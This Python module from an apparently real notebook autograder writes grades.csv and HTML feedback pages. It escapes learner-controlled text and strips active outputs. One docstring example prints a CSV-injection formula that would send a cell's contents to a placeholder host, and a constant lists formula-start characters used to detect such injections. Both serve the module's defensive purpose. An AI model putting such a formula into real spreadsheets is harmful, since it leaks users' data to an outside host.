"""What grading writes: grades.csv, the feedback pages and the summary table.

A feedback page shows text and images only: :func:`inert_outputs` keeps, of each
output, its plain text and its PNG/JPEG/GIF images (checked to be images, and
re-encoded), so no learner HTML, CSS, JavaScript, SVG or Markdown becomes active
in the page; nbconvert escapes the text of code cells and outputs. The grading
table at the top is the one place where the grader writes Markdown: every
learner-controlled string in it (names, exception names and messages) goes
through :func:`escape_text`, which writes each character other than letters,
digits and spaces as an HTML character reference, so that it is text to both
Markdown and HTML (no heading, link, image, table, tag or line break can come
of it), and the table is kept out of MathJax.

grades.csv is written with :func:`csv_cell`: a value that a spreadsheet would
read as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return) is prefixed with a single quote, as OWASP recommends.
"""

from __future__ import annotations

import base64
import binascii
import csv
import string
from collections.abc import Iterable
from dataclasses import astuple, dataclass, fields
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_notebook, new_output

from ._text import describe, first_line, no_surrogates, printable

#: The statuses of a row of grades.csv.
STATUSES = ("passed", "failed", "error", "refused", "timeout", "missing", "invalid-notebook")
STATUSES += ("memory", "processes", "cpu")  # a limit of siamese_grading.limits.Limits
#: The ``sandbox`` column: how the row's notebook ran.
SANDBOXES = ("bubblewrap", "none")
#: Images a feedback page shows, with the bytes each must start with.
IMAGE_MAGIC = {
    "image/png": (b"\x89PNG\r\n\x1a\n",),
    "image/jpeg": (b"\xff\xd8\xff",),
    "image/gif": (b"GIF87a", b"GIF89a"),
}
#: What a cell of grades.csv must not start with (a spreadsheet would run it as a
#: formula): OWASP's list, newlines, and the full-width forms some spreadsheets accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: What :func:`escape_text` leaves as it is: no Markdown or HTML syntax starts with these
#: (a slash only means something inside a tag, which needs ``<``).
_PLAIN = frozenset(string.ascii_letters + string.digits + " /")
_NAMED = {"<": "&lt;", ">": "&gt;", "&": "&amp;", '"': "&quot;"}


@dataclass(frozen=True)
class GradeRow:
    """One row of grades.csv: one exercise of one notebook of one learner."""

    learner: str
    notebook: str
    exercise: str
    points: float
    max_points: float
    status: str
    message: str
    sandbox: str


def escape_text(text: str) -> str:
    """``text`` as inert text for a Markdown cell or an HTML page: every character but
    letters, digits, spaces and slashes becomes a character reference.

    Markdown and HTML take a character reference for the character itself, never
    for syntax, so the result shows ``text`` exactly, and nothing of it can start a
    heading, link, image, table, list, tag or new line, end an HTML block, or be
    auto-linked. Characters that are not printable (control characters, lone
    surrogates) are first written as escapes (:func:`~._text.printable`).

    Examples
    --------
    >>> escape_text("<b>eve</b>")
    '&lt;b&gt;eve&lt;/b&gt;'
    >>> escape_text("## 2 / 2 points")
    '&#35;&#35; 2 / 2 points'
    """
    return "".join(
        c if c in _PLAIN else _NAMED.get(c) or f"&#{ord(c)};" for c in printable(str(text))
    )


def csv_cell(value) -> str:
    """``value`` as a cell of grades.csv: printable, and never read as a formula.

    Characters that are not printable are written as escapes (one row is one
    line), and a value that starts with one of :data:`FORMULA_STARTS` gets a
    single quote in front (OWASP's advice for CSV injection): it stays readable
    and a spreadsheet shows it as text.

    Examples
    --------
    >>> print(csv_cell('=HYPERLINK("https://example.invalid/?"&A1,"details")'))
    '=HYPERLINK("https://example.invalid/?"&A1,"details")
    >>> csv_cell("add(2, 3) should be 5")
    'add(2, 3) should be 5'
    """
    text = str(value)
    shown = printable(text)
    if text.lstrip(" ").startswith(FORMULA_STARTS) or shown.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + shown
    return shown


def format_points(points: float) -> str:
    """``2`` for 2.0, ``1.5`` for 1.5."""
    return f"{points:g}"


def write_csv(rows: Iterable[GradeRow], path: Path) -> None:
    """Write grades.csv (rows in the given order), every cell through :func:`csv_cell`."""
    with open(path, "w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow([f.name for f in fields(GradeRow)])
        for row in rows:
            values = list(astuple(row))
            values[3], values[4] = format_points(row.points), format_points(row.max_points)
            writer.writerow([csv_cell(value) for value in values])


def summary_table(rows: list[GradeRow]) -> str:
    """A learner x notebook table of points, with a total column.

    Examples
    --------
    >>> print(summary_table(rows))
    learner  07      total
    alice    3/3     3/3
    """
    notebooks = sorted({row.notebook for row in rows})
    learners = sorted({row.learner for row in rows})
    labels = _short_labels(notebooks)
    table = [["learner", *labels, "total"]]
    for learner in learners:
        line = [learner]
        total = [0.0, 0.0]
        for notebook in notebooks:
            mine = [r for r in rows if r.learner == learner and r.notebook == notebook]
            got, best = sum(r.points for r in mine), sum(r.max_points for r in mine)
            missing = mine and all(r.status in ("missing", "invalid-notebook") for r in mine)
            line.append("-" if missing else f"{format_points(got)}/{format_points(best)}")
            total[0] += got
            total[1] += best
        line.append(f"{format_points(total[0])}/{format_points(total[1])}")
        table.append(line)
    widths = [max(len(r[i]) for r in table) for i in range(len(table[0]))]
    text = "\n".join(
        "  ".join(cell.ljust(width) for cell, width in zip(r, widths, strict=True)).rstrip()
        for r in table
    )
    pairs = zip(labels, notebooks, strict=True)
    legend = ", ".join(f"{label} = {nb}" for label, nb in pairs if label != nb)
    return text + (f"\n({legend}; - = not submitted or not readable)" if legend else "")


def _short_labels(notebooks: list[str]) -> list[str]:
    labels = [name.split("_", 1)[0].removesuffix(".ipynb") for name in notebooks]
    return labels if len(set(labels)) == len(labels) else list(notebooks)


def feedback_cell(learner: str, notebook: str, rows: list[GradeRow], note: str) -> NotebookNode:
    """A markdown cell with the score and each exercise's status and message.

    Every string but ``note`` (the grader's own text) goes through
    :func:`escape_text`: learner and file names, exercise names, statuses and
    messages are shown as text, whatever they hold.
    """
    got = sum(r.points for r in rows)
    best = sum(r.max_points for r in rows)
    lines = [
        "## Grading feedback",
        "",
        f'<p class="tex2jax_ignore"><b>{escape_text(learner)}</b>, '
        f"<code>{escape_text(notebook)}</code>: "
        f"<b>{format_points(got)} / {format_points(best)} points</b></p>",
        "",
        '<table class="tex2jax_ignore">',
        "<tr><th>Exercise</th><th>Points</th><th>Status</th><th>Message</th></tr>",
    ]
    for row in rows:
        lines.append(
            f"<tr><td>{escape_text(row.exercise)}</td>"
            f"<td>{format_points(row.points)} / {format_points(row.max_points)}</td>"
            f"<td>{escape_text(row.status)}</td><td>{escape_text(row.message)}</td></tr>"
        )
    lines += ["</table>", "", note]
    return new_markdown_cell("\n".join(lines))


def inert_outputs(outputs: Iterable[dict]) -> list[NotebookNode]:
    """``outputs`` reduced to what cannot be active in a web page: text and checked images.

    Streams and errors keep their text (nbconvert escapes it). Of rich outputs,
    ``text/plain`` and the images of :data:`IMAGE_MAGIC` are kept (decoded,
    checked and re-encoded), metadata dropped; anything else (HTML, SVG,
    Markdown, LaTeX, JavaScript, widgets) becomes a one-line note.

    Examples
    --------
    >>> out = inert_outputs([{"output_type": "display_data", "metadata": {},
    ...                       "data": {"text/html": "<style>*{}</style>"}}])
    >>> out[0]["data"]["text/plain"]
    '[an output of type text/html: the feedback page shows only text and images]'
    """
    kept = []
    for output in outputs:
        kind = output.get("output_type")
        if kind == "stream":
            name = "stderr" if output.get("name") == "stderr" else "stdout"
            kept.append(new_output("stream", name=name, text=_text(output.get("text"))))
        elif kind == "error":
            traceback = [_text(line) for line in output.get("traceback") or []]
            kept.append(
                new_output(
                    "error",
                    ename=_text(output.get("ename")),
                    evalue=_text(output.get("evalue")),
                    traceback=traceback,
                )
            )
        elif kind in ("execute_result", "display_data"):
            kept.append(new_output("display_data", data=_inert_data(output.get("data") or {})))
    return kept


def _text(value) -> str:
    if isinstance(value, list):
        return no_surrogates("".join(str(v) for v in value))
    return "" if value is None else no_surrogates(str(value))


def _inert_data(data: dict) -> dict[str, str]:
    kept: dict[str, str] = {}
    for mime, starts in IMAGE_MAGIC.items():
        raw = _image(data.get(mime), starts)
        if raw is not None:
            kept[mime] = base64.b64encode(raw).decode("ascii")
    if "text/plain" in data:
        kept["text/plain"] = _text(data["text/plain"])
    dropped = sorted(set(data) - set(kept) - {"text/plain"})
    if dropped and not kept:
        kept["text/plain"] = (
            f"[an output of type {', '.join(dropped)[:80]}: the feedback page shows only text "
            "and images]"
        )
    return kept


def _image(value, starts: tuple[bytes, ...]) -> bytes | None:
    if not isinstance(value, (str, list)):
        return None
    try:
        raw = base64.b64decode("".join(_text(value).split()), validate=True)
    except (binascii.Error, ValueError):
        return None
    return raw if raw.startswith(starts) else None


def _find_nbconvert_templates() -> None:
    """Make nbconvert's own templates findable from any Python environment.

    nbconvert looks for its templates under the running Python's ``share/jupyter``. In a
    venv made with ``--system-site-packages`` (or a Python whose packages live
    elsewhere), nbconvert and its templates belong to another prefix; that prefix's
    ``share/jupyter`` is added to ``JUPYTER_PATH`` of this process when it has them.
    """
    import os
    import sys

    import nbconvert

    package = Path(nbconvert.__file__).resolve().parent  # <prefix>/lib/pythonX.Y/site-packages
    prefixes = [sys.prefix, sys.base_prefix, sys.exec_prefix, *package.parents[2:4]]
    found = []
    default = Path(sys.prefix) / "share" / "jupyter"  # searched anyway
    for prefix in prefixes:
        data = Path(prefix) / "share" / "jupyter"
        has_lab = (data / "nbconvert" / "templates" / "lab").is_dir()
        if has_lab and data != default and str(data) not in found:
            found.append(str(data))
    current = [p for p in os.environ.get("JUPYTER_PATH", "").split(os.pathsep) if p]
    missing = [p for p in found if p not in current]
    if missing:
        os.environ["JUPYTER_PATH"] = os.pathsep.join(current + missing)


class FeedbackWriter:
    """Renders feedback notebooks to HTML with nbconvert (lab template, built once).

    The notebooks it is given hold only the grader's markdown, the course's
    markdown and :func:`inert_outputs`; it does not sanitize anything itself.
    """

    def __init__(self):
        from nbconvert import HTMLExporter

        _find_nbconvert_templates()
        self._broken: str | None = None
        try:
            self.exporter = HTMLExporter(template_name="lab")
        except Exception as error:  # no template: problem() says so before grading starts
            self.exporter, self._broken = None, first_line(describe(error))

    def problem(self) -> str | None:
        """Why no page can be written here (e.g. nbconvert finds no template), or None.

        The grader asks before the first submission, so that a broken installation
        stops the run with its cause instead of costing every row.
        """
        if self._broken is not None:
            return self._broken
        try:
            self.exporter.from_notebook_node(new_notebook(cells=[new_markdown_cell("probe")]))
        except Exception as error:
            return first_line(describe(error))
        return None

    def write(self, nb: NotebookNode, path: Path) -> None:
        """Write ``nb`` as HTML to ``path``; on failure, write its first cell only.

        Raises
        ------
        OSError
            If the page cannot be written (the caller reports it and goes on).
        """
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            body, _ = self.exporter.from_notebook_node(nb)
        except Exception as error:  # a learner's odd output must not stop grading
            fallback = new_notebook(cells=[nb.cells[0]]) if nb.cells else new_notebook()
            fallback.cells.append(
                new_markdown_cell(
                    "The notebook itself could not be rendered: "
                    + escape_text(first_line(describe(error)))
                )
            )
            body, _ = self.exporter.from_notebook_node(fallback)
        path.write_text(body, encoding="utf-8", errors="backslashreplace")
